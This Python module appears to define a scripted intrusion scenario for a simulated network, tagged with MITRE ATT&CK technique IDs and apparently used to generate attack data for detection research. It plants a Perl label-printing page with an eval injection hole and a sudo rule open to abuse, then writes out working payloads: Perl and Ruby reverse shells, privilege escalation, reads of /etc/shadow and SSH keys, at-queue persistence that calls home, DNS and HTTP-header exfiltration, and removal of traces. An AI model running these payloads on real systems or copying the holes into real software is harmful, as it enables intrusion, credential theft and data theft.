"""A label printer's page evaluates what stands in double brackets: everything after that stays in Perl and Ruby."""

from __future__ import annotations

import urllib.parse
from typing import TYPE_CHECKING

from plot import Storyline, Visit
from storylines._walk import a_name, walk

if TYPE_CHECKING:
    from intruder import Intruder, Shell

PORT = 7361
NOTE = {"Content-Type": "text/plain"}

WEAKEN = r"""
set -e
id -u etikett >/dev/null 2>&1 || useradd -r -m -d /var/lib/etikett -s /bin/bash -c 'label printing' etikett
install -d -o etikett -g etikett /opt/etikett /opt/etikett/lib /opt/etikett/spool /var/lib/etikett/consignments
cat > /opt/etikett/label.pl <<'EOF'
#!/usr/bin/perl
# Renders a parcel label; [[ ]] in the note is a small sum, for example a weight in another unit.
use strict;
use warnings;
my %in;
for (split /&/, $ENV{QUERY_STRING} // "") {
    my ($key, $value) = split /=/, $_, 2;
    for ($key, $value) { $_ //= ""; tr/+/ /; s/%([0-9A-Fa-f]{2})/chr hex $1/ge }
    $in{$key} = $value;
}
my $body = "";
read STDIN, $body, $ENV{CONTENT_LENGTH} || 0;
our ($to, $grams) = ($in{to} // "counter", ($in{grams} || 0) + 0);
my $note = length $body ? $body : $in{note} // "";
$note =~ s/\[\[(.*?)\]\]/my $got = eval $1; defined $got ? $got : "?"/gse;
if (open my $out, ">>", "/opt/etikett/spool/labels.txt") { print $out "$to $grams\n" }
print "Status: 200 OK\r\nContent-Type: text/plain\r\n\r\nTO $to\n$grams g\n$note\n";
EOF
cat > /opt/etikett/serve.py <<'EOF'
import appserver

appserver.cgi(7361, "/opt/etikett/label.pl", "etikett")
EOF
cat > /opt/etikett/lib/forms.rb <<'EOF'
# paper sizes the printers know
FORMS = { "a6" => [105, 148], "a5" => [148, 210] }.freeze
EOF
cat > /opt/etikett/reprint.rb <<'EOF'
#!/usr/bin/ruby
# Queues lines of a spool file again: reprint.rb FILE
require "/opt/etikett/lib/forms"
lines = open(ARGV.fetch(0)) { |f| f.readlines.last(20) }
File.write("/var/spool/etikett.queue", lines.join)
puts "#{lines.size} labels queued for #{FORMS.keys.first}"
EOF
chmod 755 /opt/etikett/label.pl /opt/etikett/reprint.rb
chown -R etikett:etikett /opt/etikett/lib /opt/etikett/spool
printf 'queue=zebra-2\ndb=parcels\ndb_user=etikett\ndb_word=Foolscap_19\n' > /opt/etikett/printer.conf
chown root:etikett /opt/etikett/printer.conf; chmod 640 /opt/etikett/printer.conf
echo 'etikett ALL=(root) NOPASSWD: /usr/bin/ruby /opt/etikett/reprint.rb *' > /etc/sudoers.d/etikett
chmod 440 /etc/sudoers.d/etikett
for week in 31 32 33 34 35 36 37 38; do
    awk -v w="$week" 'BEGIN{srand(w); print "parcel,name,street,grams"; for(i=0;i<160;i++)
        printf "P%d%04d,Receiver %d,Sample Lane %d,%d\n", w, i, rand()*9000, rand()*200, rand()*20000}' \
        > "/var/lib/etikett/consignments/week-$week.csv"
done
echo 'Parcel 3 weighs [[ $grams/1000 ]] kg' > /opt/etikett/spool/sample.txt
chown -R etikett:etikett /var/lib/etikett
echo '*/6 * * * * etikett sudo /usr/bin/ruby /opt/etikett/reprint.rb /opt/etikett/spool/sample.txt >/dev/null' \
    > /etc/cron.d/etikett
"""

PROBES = r"""
== find the eval | TA0001 | The note field of a label takes Perl in double brackets; sums are tried first, then more.
T1190 7*191
? T1190 "$0 $^V $$"
T1033 (getpwuid $<)[0] . " " . `id`
T1082 `uname -srm; cat /etc/debian_version`
"""

LOUD = r"""
== a terminal | TA0002 | The reverse shell becomes a terminal and is told not to remember.
T1059.004 script -qc /bin/bash /dev/null
T1562.003 unset HISTFILE; export TERM=dumb
== look round | TA0007 | Whose machine is this, what runs, who may do what.
T1033 id; w
T1082 cat /proc/cpuinfo | grep -m1 'model name'; uname -a
T1087.001 perl -F: -lane 'print "$F[0] $F[2] $F[6]" if $F[6]=~/sh$/' /etc/passwd
T1057 ps -eo user,pid,lstart,cmd --sort=start_time | tail -25
T1049 ss -ltnp
T1083 ls -lart /opt /opt/etikett /srv
? T1016 ip -br a; grep -v '^#' /etc/hosts
T1069.001 sudo -nl
? T1083 ls -la /var/spool/cron/atjobs
== up through the reprint rule | TA0004 | The script that sudo may run reads a library the account owns.
T1548.003 sudo -n /usr/bin/ruby /opt/etikett/reprint.rb /opt/etikett/spool/labels.txt
T1574 cp -p /opt/etikett/lib/forms.rb /opt/etikett/lib/forms.rb~; echo 'exec "/bin/bash"' >> /opt/etikett/lib/forms.rb
T1548.003 sudo -n /usr/bin/ruby /opt/etikett/reprint.rb /opt/etikett/spool/labels.txt
T1033 id; cd /var/lib/etikett
T1070.004 mv -f /opt/etikett/lib/forms.rb~ /opt/etikett/lib/forms.rb
== secrets | TA0006 | Hashes and the settings of the printer.
T1003.008 perl -F: -lane 'print "$F[0]:$F[1]" if $F[1]=~/^\$/' /etc/shadow
T1552.001 cat /opt/etikett/printer.conf; grep -rsliE 'passw|secret|_word' /etc/cron.d /opt /srv | head
? T1552.004 perl -MFile::Find -e 'find(sub{print "$File::Find::name\n" if /^id_(rsa|ed25519)$/},"/home","/root")'
== a job of its own | TA0003 | A Perl script calls home and puts itself into the at queue again.
T1105 perl -MIO::Socket -e '$s=IO::Socket::INET->new("{gate}")or die;print $s "GET /{file} HTTP/1.0\r\n\r\n";\
local $/;$_=<$s>;s/.*?\r\n\r\n//s;print' > /opt/etikett/lib/{file}
T1222.002 chmod 750 /opt/etikett/lib/{file}; chown root:root /opt/etikett/lib/{file}
T1053.002 @plant /opt/etikett/lib/{file}
T1053.002 echo /opt/etikett/lib/{file} | at -q e now + 1 minute
T1053.002 atq
== parcels | TA0009 | The consignments are packed with Perl alone.
T1083 ls -l /var/lib/etikett/consignments | wc -l
T1005 perl -ne 'print if /Receiver/' /var/lib/etikett/consignments/*.csv > /opt/etikett/spool/q1
T1560.002 perl -MIO::Compress::Gzip=gzip -e 'gzip "/opt/etikett/spool/q1" => "/opt/etikett/spool/q1.z"'
T1560.003 perl -e 'undef $/;$_=<>;$_^="{word}"x(length()/2);print' /opt/etikett/spool/q1.z > /opt/etikett/spool/q2
== out in questions | TA0010 | The first pieces leave as names in datagrams to port 53.
T1048.003 perl -MIO::Socket::INET -e 'open F,"<","/opt/etikett/spool/q2";$s=IO::Socket::INET->new(Proto=>"udp",\
PeerAddr=>"{from}:53");while($n++<60&&read F,$b,30){$s->send(pack("n6",$n,256,1,0,0,0)\
.join("",map{chr(length).$_}unpack("H*",$b),"{word}","example")."\0\0\1\0\1");select undef,undef,undef,.05}'
== tidy | TA0005 | Working files go, times are set back.
T1070.004 shred -u /opt/etikett/spool/q1 /opt/etikett/spool/q1.z /opt/etikett/spool/q2
T1070.006 touch -r /opt/etikett/label.pl /opt/etikett/lib /opt/etikett/lib/{file}
? T1070.003 history -c
T1059.004 exit
"""

QUIET = r"""
== look round | TA0007 | Ruby one-liners instead of the usual programs.
T1033 ruby -retc -e 'puts Etc.getlogin, Etc.getpwuid.inspect'
T1057 ruby -e 'Dir["/proc/[0-9]*/cmdline"].each{|f| s=File.read(f).tr("\0"," ") rescue next; puts f[6..-9]+" "+s}'
T1049 ruby -e 'puts File.readlines("/proc/net/tcp").map{|l| l.split[1]}'
T1083 ruby -e 'puts Dir["/{opt,srv,home}/*"]'
T1087.001 ruby -retc -e 'Etc.passwd{|u| puts u.name+" "+u.shell if u.uid>999}'
? T1018 ruby -e 'puts File.read("/etc/hosts")'
T1069.001 sudo -n -l
== up through the pipe | TA0004 | Ruby's open starts a program when the name begins with a bar; sudo allows any name.
T1548.003 sudo -n /usr/bin/ruby /opt/etikett/reprint.rb '|id'
? T1548.003 ruby /opt/etikett/reprint.rb '|id -un'
T1548.003 sudo -n /usr/bin/ruby /opt/etikett/reprint.rb '|bash -i >&2'
T1033 whoami
== secrets | TA0006 | Hashes go into a hash of Ruby, keys are only counted.
T1003.008 ruby -e 'puts File.readlines("/etc/shadow").grep(/:\$/).map{|l| l.split(":")[0,2].inspect}'
T1552.004 ruby -e 'puts Dir["/{root,home/*}/.ssh/id_*"]'
? T1552.003 ruby -e 'Dir["/{root,home/*}/.*_history"].each{|f| puts File.readlines(f).grep(/ssh|curl|-p/)}'
== a job of its own | TA0003 | A Ruby script in a folder of the print spooler waits in the at queue.
T1027.013 ruby -e 'File.write("/var/lib/etikett/{file}", ["{packed}"].pack("H*"));\
 File.chmod(0755,"/var/lib/etikett/{file}")'
T1053.002 @plant /var/lib/etikett/{file}
T1053.002 ruby -e 'IO.popen("at now + 1 minute","w"){|p| p.puts "/var/lib/etikett/{file}"}'
? T1053.002 at -l
== parcels | TA0009 | Weeks are read into memory and compressed there.
T1083 ruby -e 'puts Dir["/var/lib/etikett/consignments/*"].map{|f| [f,File.size(f)].join(" ")}'
T1560.002 ruby -rzlib -e 'File.binwrite("/tmp/{word}.prn", \
Zlib.deflate(Dir["/var/lib/etikett/consignments/*"].sum(""){|f| File.read(f)}))'
== out in headers | TA0010 | The answer of each request is thrown away: what counts is the X-Request-Id.
T1048.003 ruby -rnet/http -e 'h=Net::HTTP.new("{from}",{port}); File.binread("/tmp/{word}.prn")[0,9000].unpack1("H*")\
.scan(/.{1,900}/).each_with_index{|c,i| h.get("/v2/status?p=#{i}",{"X-Request-Id"=>c}); sleep 0.4}'
T1030 ruby -rnet/http -e 'Net::HTTP.get_response(URI("{depot}/v2/done?n="+File.size("/tmp/{word}.prn").to_s)).code'
== tidy | TA0005 | Nothing but the queued script stays.
T1070.004 ruby -e 'File.delete("/tmp/{word}.prn")'
T1070.006 ruby -e 'f="/var/lib/etikett/{file}"; t=File.mtime("/opt/etikett/label.pl"); File.utime(t,t,f)'
? T1654 tail -n 4 /var/log/syslog
T1059.004 exit
"""

PLAIN = r"""
== look round | TA0007 | One question every little while, as somebody who looks after the printer would ask.
T1083 `ls -l /opt/etikett /var/lib/etikett`
T1057 `ps -u etikett -o pid,etime,args`
T1680 `df -h / | tail -1`
T1016 `hostname -I; ip route`
? T1033 `last -n 3`
T1069.001 `sudo -n -l`
T1087.001 join ",", map { (split /:/)[0] } grep { !/nologin|false/ } `getent passwd`
? T1049 `ss -tln`
T1654 `tail -n 3 /opt/etikett/spool/labels.txt`
== settings | TA0006 | The file with the printer's settings holds a password.
T1552.001 local @ARGV = "/opt/etikett/printer.conf"; join "", <>
? T1552.001 `grep -l db_word -r /opt/etikett 2>&1`
? T1552.003 `tail ~/.bash_history 2>&1`
== a job of its own | TA0003 | A stock list is sent by a script that the at queue starts.
T1083 `mkdir -p /var/lib/etikett/bin; ls -ld /var/lib/etikett/bin`
T1059 open my $f, ">", "/var/lib/etikett/bin/stock-list"; print $f pack("H*", "{packed}"); close $f
T1222.002 chmod 0755, "/var/lib/etikett/bin/stock-list"
T1053.002 @plant /var/lib/etikett/bin/stock-list
T1053.002 `echo /var/lib/etikett/bin/stock-list | at now + 2 minutes 2>&1`
T1053.002 `atq`
== parcels | TA0009 | One week of consignments, not all of them.
T1083 join " ", map { -s } glob "/var/lib/etikett/consignments/*.csv"
T1560.001 `gzip -9 < /var/lib/etikett/consignments/week-3{digit}.csv > /tmp/etikett-{word}.gz; ls -l\
 /tmp/etikett-{word}.gz`
== out in questions | TA0010 | Pieces of the file are asked for as names, with dig.
T1048.003 `xxd -p -c 28 /tmp/etikett-{word}.gz | head -6 | while read x; do dig +short +tries=1 +time=1 \@{from}\
 \$x.{word}.example TXT; done`
T1048.003 `for n in 1 2 3; do dig +tries=1 +time=1 \@{from} part\$n-\$(md5sum < /tmp/etikett-{word}.gz | cut\
 -c1-20).{word}.example >/dev/null; done; echo \$?`
== tidy | TA0005 | The piece goes; the job stays.
T1070.004 unlink "/tmp/etikett-{word}.gz"
T1070.006 utime 1756000000, 1756000000, "/var/lib/etikett/bin/stock-list"
? T1070.004 `ls /tmp | wc -l`
"""

JOB = """#!/usr/bin/perl
use IO::Socket::INET;
if (my $s = IO::Socket::INET->new(PeerAddr => "GATE", Timeout => 5)) {
    print $s "GET /stock?h=" . `hostname` . " HTTP/1.0\\r\\n\\r\\n";
    close $s;
}
open my $at, "|-", "at now + 3 minutes 2>/dev/null"; print $at "$0\\n";
"""

RUBY_JOB = """#!/usr/bin/ruby
require "net/http"
Net::HTTP.get(URI("http://GATE/v2/hello?u=" + Process.uid.to_s)) rescue nil
IO.popen("at now + 4 minutes 2>/dev/null", "w") { |queue| queue.puts File.expand_path($0) }
"""


def render(own: Intruder, code: str, technique: str, stays: bool = False) -> str:
    """One label whose note holds `code`; the variants send it in different ways."""
    note = f"[[ {code} ]]"
    if own.variant == 0:
        path = "/label?to=counter&grams=5"
        return own.http(own.entry, PORT, "POST", path, note, NOTE, technique=technique, detached=stays)
    query = urllib.parse.urlencode({"to": a_name(own), "grams": own.rng.randint(200, 9000), "note": note})
    return own.http(own.entry, PORT, "GET", "/label?" + query, technique=technique, detached=stays)


def call_back(own: Intruder) -> Shell:
    """A reverse shell out of the template, in Perl or in Ruby."""
    port = 2087 if own.variant == 0 else 8890
    if own.variant == 0:
        code = (
            f"use IO::Socket; use POSIX (); if (!fork) {{ POSIX::setsid(); my $s = IO::Socket::INET->new("
            f'"{own.address}:{port}"); open STDIN, "<&", $s; open STDOUT, ">&", $s; '
            f'open STDERR, ">&", $s; exec "/bin/bash", "-i" }} 0'
        )
    else:
        ruby = f's=TCPSocket.new("{own.address}",{port});exec("/bin/bash","-i",:in=>s,:out=>s,:err=>s)'
        code = f"system \"setsid ruby -rsocket -e 'eval [%q({ruby.encode().hex()})].pack(%q(H*))' >/dev/null 2>&1 &\""
    return own.catch(port, lambda: render(own, code, "T1059"), "T1059")


def play(own: Intruder) -> None:
    gate = own.depot.removeprefix("http://")
    job = (RUBY_JOB if own.variant == 1 else JOB).replace("GATE", gate)
    file = own.pick(("pagesize.pl", "drumcheck.pl", "tonerinfo.pl") if own.variant == 0 else ("ppd-index", "feeds"))
    names = {"from": own.address, "gate": gate, "depot": own.depot, "port": gate.rpartition(":")[2], "file": file}
    names |= {"word": a_name(own), "packed": job.encode().hex(), "digit": str(own.rng.randint(1, 8))}
    own.offer(file, job)
    middle = (3.0, 9.0, 22.0)[own.variant]

    def label(technique: str, code: str, stays: bool) -> object:
        return render(own, code, technique, stays)

    walk(own, PROBES, label, names, middle)
    if own.variant == 2:
        walk(own, PLAIN, label, names, middle)
        return
    own.step("reverse shell", "TA0002", "The template opens a connection to the intruder and hands a shell to it.")
    shell = call_back(own)
    own.think(middle)
    walk(own, LOUD if own.variant == 0 else QUIET, shell, names, middle)
    shell.close()


STORYLINE = Storyline(
    name="template-eval",
    split="test",
    words="A label printer's page evaluates the note of a label as Perl. The intruder runs commands through it, "
    "becomes root with a careless sudo rule for a Ruby script, leaves a job in the at queue and carries parcel "
    "lists away in datagrams, headers or name look-ups.",
    weaken=WEAKEN,
    services=("etikett: /usr/bin/python3 /opt/etikett/serve.py", "root: /usr/sbin/service atd start"),
    visits=(
        Visit(PORT, 35, path="/label?to={word}&grams={n}00&note=weighs+[[$grams/1000]]+kg"),
        Visit(PORT, 90, "POST", "/label?to={word}&grams={n}50", "Handle with care [[ int($grams/500)+1 ]] stamps"),
    ),
    play=play,
    hosts=("mill-13",),
    minutes=14,
)
